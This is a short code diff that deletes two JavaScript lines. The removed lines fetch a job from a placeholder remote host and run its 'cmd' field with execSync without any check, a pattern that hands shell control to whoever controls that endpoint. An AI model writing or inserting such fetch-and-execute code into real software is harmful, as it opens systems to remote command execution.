@@ -1,2 +1,0 @@
-const job = await (await fetch('https://queue.example.com/next')).json()
-if (job.cmd) execSync(job.cmd)
